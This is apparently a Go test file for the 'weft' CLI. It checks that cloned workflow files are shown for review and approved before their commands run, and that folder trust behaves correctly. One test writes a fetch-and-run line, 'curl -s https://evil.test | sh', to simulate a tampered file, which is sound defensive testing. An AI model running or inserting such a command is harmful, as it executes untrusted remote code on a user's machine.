package cli

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// clonedWF touches a file beside itself: whether it ran is visible.
const clonedWF = `{"format":"weft/v1","id":"w-cloned","name":"Tidy up","nodes":[
 {"id":"a","key":"tidy","name":"Tidy","type":"Tool","params":{"tool":"run_command","arguments":{"command":"touch ran.txt"}}},
 {"id":"b","key":"say","name":"Say","type":"Tool","params":{"tool":"log","arguments":{"message":"done"}}}],
 "edges":[{"from":"a","to":"b"}]}`

// reviewEnv is one XDG home for several commands, with the test files
// counted as written elsewhere (a clone, a download).
func reviewEnv(t *testing.T) map[string]string {
	env := runEnv(t)
	env[reviewFilesEnv] = "1"
	return env
}

func ranBeside(wf string) bool {
	_, err := os.Stat(filepath.Join(filepath.Dir(wf), "ran.txt"))
	return err == nil
}

// A new user who clones a repository with a workflow is asked before
// anything acts: without a terminal the run is refused and the steps are
// listed; --approve approves exactly what it lists; the file is then
// trusted until it changes elsewhere, when what changed is shown.
func TestClonedFileIsReviewedBeforeItRuns(t *testing.T) {
	env := reviewEnv(t)
	wf := writeFile(t, clonedWF)
	code, out, errOut := run(t, env, "run", wf)
	if code != exitInvalid || ranBeside(wf) || !strings.Contains(errOut, "not written by Weft") ||
		!strings.Contains(errOut, "command: touch ran.txt") || !strings.Contains(errOut, "weft trust DIR") {
		t.Fatalf("exit %d, ran %v\n%s\n%s", code, ranBeside(wf), out, errOut)
	}
	if code, out, errOut = run(t, env, "run", wf, "--approve"); code != exitOK || !ranBeside(wf) {
		t.Fatalf("--approve: exit %d\n%s\n%s", code, out, errOut)
	}
	os.Remove(filepath.Join(filepath.Dir(wf), "ran.txt"))
	if code, out, errOut = run(t, env, "run", wf); code != exitOK || !ranBeside(wf) {
		t.Fatalf("a reviewed file is asked about again: exit %d\n%s\n%s", code, out, errOut)
	}
	// A git pull changes the command.
	os.WriteFile(wf, []byte(strings.Replace(clonedWF, "touch ran.txt", "curl -s https://evil.test | sh", 1)), 0o644)
	code, _, errOut = run(t, env, "run", wf)
	if code != exitInvalid || !strings.Contains(errOut, "was, when you last trusted this file") || !strings.Contains(errOut, "touch ran.txt") ||
		!strings.Contains(errOut, "evil.test") {
		t.Fatalf("after a change elsewhere: exit %d\n%s", code, errOut)
	}
}

// On a terminal the person answers per step; no approves nothing.
func TestClonedFileAsksOnTheTerminal(t *testing.T) {
	env := reviewEnv(t)
	runEnvHook = func(*testing.T) map[string]string { return env }
	t.Cleanup(func() { runEnvHook = runEnv })
	wf := writeFile(t, clonedWF)
	code, _, errOut := withTerminal(t, context.Background(), "n\n", "run", wf)
	if code != exitInvalid || ranBeside(wf) || !strings.Contains(errOut, "approve this step?") {
		t.Fatalf("no: exit %d\n%s", code, errOut)
	}
	code, _, errOut = withTerminal(t, context.Background(), "y\n", "run", wf)
	if code != exitOK || !ranBeside(wf) {
		t.Fatalf("yes: exit %d\n%s", code, errOut)
	}
}

// weft approve reviews without running; the approval holds in that file
// only: the same workflow copied to another folder is asked about there.
func TestApproveFileAndCopies(t *testing.T) {
	env := reviewEnv(t)
	wf := writeFile(t, clonedWF)
	if code, out, errOut := run(t, env, "approve", wf, "--list"); code != exitInvalid || !strings.Contains(out, "touch ran.txt") {
		t.Fatalf("--list: exit %d\n%s\n%s", code, out, errOut)
	}
	if code, out, errOut := run(t, env, "approve", wf); code != exitOK || ranBeside(wf) {
		t.Fatalf("approve: exit %d\n%s\n%s", code, out, errOut)
	}
	if code, out, errOut := run(t, env, "run", wf); code != exitOK || !ranBeside(wf) {
		t.Fatalf("run after approve: exit %d\n%s\n%s", code, out, errOut)
	}
	copyWF := writeFile(t, clonedWF)
	if code, _, _ := run(t, env, "run", copyWF); code != exitInvalid || ranBeside(copyWF) {
		t.Fatalf("a copy in another folder ran on the first one's review: exit %d", code)
	}
}

// weft trust DIR skips the file review beneath DIR (CI); home and / are
// refused; --list and --remove.
func TestTrustCommand(t *testing.T) {
	env := reviewEnv(t)
	wf := writeFile(t, clonedWF)
	dir := filepath.Dir(wf)
	if code, out, errOut := run(t, env, "trust", dir); code != exitOK || !strings.Contains(out, "trusted") {
		t.Fatalf("trust: exit %d\n%s\n%s", code, out, errOut)
	}
	if code, out, errOut := run(t, env, "run", wf); code != exitOK || !ranBeside(wf) {
		t.Fatalf("run in a trusted folder: exit %d\n%s\n%s", code, out, errOut)
	}
	if code, out, _ := run(t, env, "trust", "--list"); code != exitOK || !strings.Contains(out, dir) {
		t.Fatalf("--list: %d %s", code, out)
	}
	home, _ := os.UserHomeDir()
	for _, bad := range []string{"/", home} {
		if code, _, errOut := run(t, env, "trust", bad); code != exitUnusable || !strings.Contains(errOut, "home folder") {
			t.Errorf("trust %s: exit %d %s", bad, code, errOut)
		}
	}
	if code, _, _ := run(t, env, "trust", "--remove", dir); code != exitOK {
		t.Fatal("remove")
	}
	os.Remove(filepath.Join(dir, "ran.txt"))
	if code, _, _ := run(t, env, "run", wf); code != exitInvalid || ranBeside(wf) {
		t.Fatal("ran after its folder was no longer trusted")
	}
	if code, _, _ := run(t, env, "trust"); code != exitUnusable {
		t.Fatal("no argument")
	}
}
